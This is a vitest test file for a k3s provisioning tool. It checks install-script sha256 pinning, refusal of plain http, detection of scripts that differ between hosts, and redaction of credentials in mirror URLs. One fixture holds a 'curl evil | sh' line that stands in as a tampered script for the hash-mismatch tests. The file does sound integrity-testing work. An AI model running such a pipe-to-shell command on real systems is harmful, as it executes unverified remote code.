import { localFolder } from '../support/localFiles';
import { describe, expect, it } from 'vitest';
import { sha256 } from '../../src/adapters/system/sha256';
import { systemClock } from '../../src/adapters/system/clock';
import { ok, err } from '../../src/core/base/result';
import { problem } from '../../src/core/base/problem';
import { normalise } from '../../src/core/cluster/normalise';
import { planText } from '../../src/core/plan/planText';
import type { RemoteCommand } from '../../src/core/remote/remoteCommand';
import type { Operation } from '../../src/engine/operations/operation';
import { provision } from '../../src/engine/operations/provision';
import type { InstallScripts } from '../../src/engine/ports';
import { preparePlan } from '../../src/engine/run/prepare';
import { agreedDoor } from '../support/agreedDoor';
import { reachableScripts, unreachableScripts } from '../support/installScripts';
import { probeText, scriptedHosts, type Answer } from '../support/scriptedHosts';

const SCRIPT = '#!/bin/sh\necho installing\n';
const HASH = sha256(SCRIPT);
const OTHER = sha256('#!/bin/sh\ncurl evil | sh\n');
const answers = (hash: string): { stdout: string } => ({ stdout: `${hash}  -\n` });

interface Case {
  readonly install?: object;
  readonly scripts?: InstallScripts;
  readonly hash?: Answer;
  readonly operation?: Operation<object>;
}

/** The plan for three fresh hosts, how often this machine was asked for the script, and what the hosts were asked. */
async function planOf({ install = {}, scripts = reachableScripts(SCRIPT), hash, operation = provision }: Case) {
  const cluster = normalise({
    metadata: { name: 'edge' },
    k3s: { version: 'v1.36.3+k3s1', install },
    token: '${secret:edge-token}',
    ssh: { identityFile: '~/.ssh/id_ed25519', sudoPassword: '${env:SUDO}' },
    servers: {
      nodes: [1, 2, 3].map((i) => ({
        host: `10.0.0.1${i}`,
        name: `server-${i}`,
        config: i === 2 ? { 'node-label': ['rack=${secret:rack}'] } : {},
      })),
    },
  });
  const fetched: string[] = [];
  const sent: RemoteCommand<unknown>[] = [];
  const hosts = scriptedHosts((host, script, turn) =>
    script === 'probe'
      ? { stdout: probeText({ hostname: host }) }
      : (hash?.(host, script, turn) ?? { exitCode: 1, stderr: `no answer to ${script}` }),
  );
  const { plan, installScript } = await preparePlan(
    cluster,
    {
      hosts: {
        ...hosts,
        run: (target, command, options) => {
          sent.push(command);
          return hosts.run(target, command, options);
        },
      },
      secrets: agreedDoor({ resolve: async () => ok('a-long-enough-token') }),
      scripts: {
        fetch: (url, options) => {
          fetched.push(url);
          return scripts.fetch(url, options);
        },
        read: scripts.read,
      },
      ...localFolder(),
      clock: systemClock,
      sha256,
      parallel: 3,
    },
    {},
    { operation, intent: {} },
  );
  const asked = sent.filter(({ script }) => script.id === 'install-script-sha256');
  return { plan, installScript, fetched, asked, text: planText(plan) };
}

describe('M8: the install script of a plan', () => {
  it('M8: is fetched once by this machine, and its origin and sha256 are shown', async () => {
    const { text, installScript, fetched, asked } = await planOf({});
    expect(text).toContain(
      `The install script comes from https://get.k3s.io (sha256 ${HASH}).`.replace(' (', ', fetched by this machine ('),
    );
    expect([fetched, asked, installScript]).toEqual([['https://get.k3s.io'], [], { text: SCRIPT, sha256: HASH }]);
  });

  it('M8: is no question when nothing is installed', async () => {
    const looks: Operation<object> = { id: 'look', title: 'Look', asks: 'plan', plan: () => undefined };
    const { fetched, asked, plan } = await planOf({ operation: looks });
    expect([fetched, asked, plan.problems, plan.notes]).toEqual([[], [], [], []]);
  });

  it('M8: must be the one that the file pins', async () => {
    const pinned = await planOf({ install: { scriptSha256: HASH.toUpperCase() } });
    expect([pinned.plan.problems, pinned.installScript?.sha256]).toEqual([[], HASH]);
    const { plan, installScript } = await planOf({ install: { scriptSha256: OTHER } });
    expect(plan.problems).toMatchObject([{ code: 'install-script-differs', why: expect.stringContaining(HASH) }]);
    expect([plan.steps, installScript]).toEqual([[], undefined]);
  });

  it('M8: may be a file of this machine', async () => {
    const { text, installScript, fetched } = await planOf({ install: { scriptUrl: './install.sh' } });
    expect(text).toContain(`The install script comes from ./install.sh, a file of this machine (sha256 ${HASH}).`);
    expect([fetched, installScript]).toEqual([[], { text: SCRIPT, sha256: HASH }]);
  });

  it('M8: that this machine cannot read stops the plan', async () => {
    const { plan } = await planOf({ install: { scriptUrl: './install.sh' }, scripts: unreachableScripts });
    expect([plan.steps, plan.problems]).toMatchObject([[], [{ code: 'install-script-unreadable' }]]);
  });

  it('M8: over http is refused before anybody is asked, unless its sha256 is known', async () => {
    const scriptUrl = 'http://mirror.example.com/k3s.sh';
    const { plan, fetched, asked } = await planOf({ install: { scriptUrl } });
    expect(plan.problems).toMatchObject([{ code: 'install-script-not-encrypted' }]);
    expect([plan.steps, fetched, asked]).toEqual([[], [], []]);
    expect((await planOf({ install: { scriptUrl, scriptSha256: HASH } })).plan.problems).toEqual([]);
  });

  it('M8: that somebody sends on to http is no reason to let the hosts try', async () => {
    const downgrade = problem('install-script-not-encrypted', 'sends on to http');
    const scripts = { ...unreachableScripts, fetch: async () => err(downgrade) };
    const { plan, asked } = await planOf({ scripts, hash: () => answers(HASH) });
    expect([plan.steps, plan.problems, asked]).toEqual([[], [downgrade], []]);
  });
});

describe('M8: an install script that only hosts can reach', () => {
  const install = { scriptUrl: 'https://ada:mirror-passw0rd@mirror.example.com/k3s.sh?sig=s3cr3t' };

  it('M8: is fetched by each of them, and the plan says so', async () => {
    const { text, installScript, fetched, asked } = await planOf({
      scripts: unreachableScripts,
      hash: () => answers(HASH),
    });
    expect(text).toContain(
      `This machine cannot reach https://get.k3s.io (getaddrinfo ENOTFOUND get.k3s.io), so each of the 3 hosts fetches the install script itself, and all get the same one (sha256 ${HASH}).`,
    );
    expect(installScript).toEqual({ url: 'https://get.k3s.io', sha256: HASH });
    expect([fetched.length, asked.map(({ args }) => args)]).toEqual([1, [['https'], ['https'], ['https']]]);
  });

  it('M8: that is not the same on all hosts is a problem that names them', async () => {
    const { plan, text } = await planOf({
      scripts: unreachableScripts,
      hash: (host) => answers(host === 'server-2' ? OTHER : HASH),
    });
    expect(plan.steps).toEqual([]);
    expect(text).toContain(`sha256 ${OTHER}: server-2\n`);
    expect(text).toContain(`sha256 ${HASH}: server-1, server-3\n`);
  });

  it('M8: that all hosts get otherwise than the file pins it is a problem, too', async () => {
    const { plan } = await planOf({
      install: { scriptSha256: HASH },
      scripts: unreachableScripts,
      hash: () => answers(OTHER),
    });
    expect([plan.steps, plan.problems]).toMatchObject([[], [{ code: 'install-script-differs' }]]);
  });

  it('M8: that a host cannot reach either is told with the words of both', async () => {
    const { plan, text } = await planOf({
      scripts: unreachableScripts,
      hash: (host) =>
        host === 'server-3' ? { exitCode: 7, stderr: 'curl: (7) Failed to connect to get.k3s.io\n' } : answers(HASH),
    });
    expect(plan.steps).toEqual([]);
    expect(text).toContain('getaddrinfo ENOTFOUND get.k3s.io');
    expect(text).toContain('server-3: curl: (7) Failed to connect to get.k3s.io');
  });

  it.each([
    ['this machine', reachableScripts(SCRIPT)],
    ['the hosts', unreachableScripts],
  ])('M8: user, password and query of its address are in no text and no argument (%s)', async (_who, scripts) => {
    const { text, asked } = await planOf({ install, scripts, hash: () => answers(HASH) });
    const quiet = await planOf({
      install,
      scripts: unreachableScripts,
      hash: () => ({ exitCode: 22, stderr: `curl: (22) ${install.scriptUrl}` }),
    });
    for (const shown of [text, quiet.text, JSON.stringify(asked.map(({ args }) => args))]) {
      expect(shown).not.toContain('mirror-passw0rd');
      expect(shown).not.toContain('s3cr3t');
    }
    expect(text).toContain('https://mirror.example.com/k3s.sh');
  });
});

describe('M7: what a plan is agreed to with', () => {
  it('M7: names every secret and file that leaves this machine, and the hosts that get it, but no key that stays', async () => {
    const { plan, text } = await planOf({ install: { scriptUrl: '~/k3s/install.sh' } });
    const hosts = 'all 3 hosts of this plan';
    expect(plan.notes).toEqual(
      expect.arrayContaining([
        `The secret "edge-token" (token) goes to ${hosts}.`,
        `The environment variable SUDO (ssh.sudoPassword) goes to ${hosts}.`,
        'The secret "rack" (config.node-label) goes to server-2 (10.0.0.12).',
        `The file ~/k3s/install.sh (k3s.install.scriptUrl) goes to ${hosts}.`,
      ]),
    );
    expect(text).toContain('Hosts: server-1 (10.0.0.11), server-2 (10.0.0.12), server-3 (10.0.0.13)\n');
    expect(plan.notes.join('\n')).not.toContain('id_ed25519');
    expect(JSON.stringify(plan)).not.toContain('a-long-enough-token');
  });
});
